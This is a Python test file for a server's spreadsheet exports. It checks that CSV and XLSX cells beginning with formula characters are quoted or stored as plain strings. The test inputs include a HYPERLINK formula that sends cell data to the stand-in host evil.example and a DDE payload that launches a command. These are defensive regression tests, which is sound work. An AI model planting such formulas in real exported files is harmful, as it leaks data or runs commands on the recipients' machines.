"""Exports never hand a spreadsheet a formula typed in the field (issue 14, finding 9)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import xlsxwriter

from server.services import spreadsheets
from server.services.coverage import exports as coverage_exports

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [(HYPERLINK, "'" + HYPERLINK), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
     ("-2+3+cmd|x", "'-2+3+cmd|x"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=1+1", "'\t=1+1"),
     ("\r=1+1", "'\r=1+1"), ("-", "'-"), ("-3.5", "-3.5"), ("+8613800138000", "+8613800138000"),
     ("1e5", "1e5"), ("张三 = 李四", "张三 = 李四"), ("", ""), (None, ""), (-3, -3), (2.5, 2.5)],
)
def test_csv_cells_that_could_start_a_formula_are_quoted(value, cell):
    assert spreadsheets.csv_cell(value) == cell


def test_csv_bytes_have_a_bom_crlf_lines_and_safe_cells():
    data = spreadsheets.csv_bytes(["code", "=h"], [[HYPERLINK, 3], ["B1", None]])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert text.count("\r\n") == 3
    assert list(csv.reader(io.StringIO(text))) == [["code", "'=h"], ["'" + HYPERLINK, "3"],
                                                  ["B1", ""]]


def test_xlsx_rows_hold_strings_and_numbers_never_formulas():
    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    sheet = book.add_worksheet()
    spreadsheets.write_xlsx_row(sheet, 0, [HYPERLINK, "+1+1", 7, 2.5, None, "", True,
                                           float("nan")])
    book.close()
    cells = next(openpyxl.load_workbook(buf).active.iter_rows())
    assert [c.data_type for c in cells[:4]] == ["s", "s", "n", "n"]
    assert [c.value for c in cells] == [HYPERLINK, "+1+1", 7, 2.5, None, None, True, "nan"]


@pytest.mark.parametrize("title", ["T01/02", "a:b*c?[d]\\e", "'quoted'", "x" * 40, ""])
def test_unvisited_xlsx_takes_any_street_or_coordinator_as_its_sheet_name(title):
    record = {"order": 1, "code": HYPERLINK, "street": "T01-01", "address": "@x",
              "expected_units": None, "state": "unvisited", "visits": 0, "lon": 1.0, "lat": 2.0}
    sheet = openpyxl.load_workbook(io.BytesIO(
        coverage_exports.render([record], "xlsx", title=title))).active
    assert len(sheet.title) <= 31
    assert [c.data_type for c in sheet[2]][1:4] == ["s", "s", "s"]
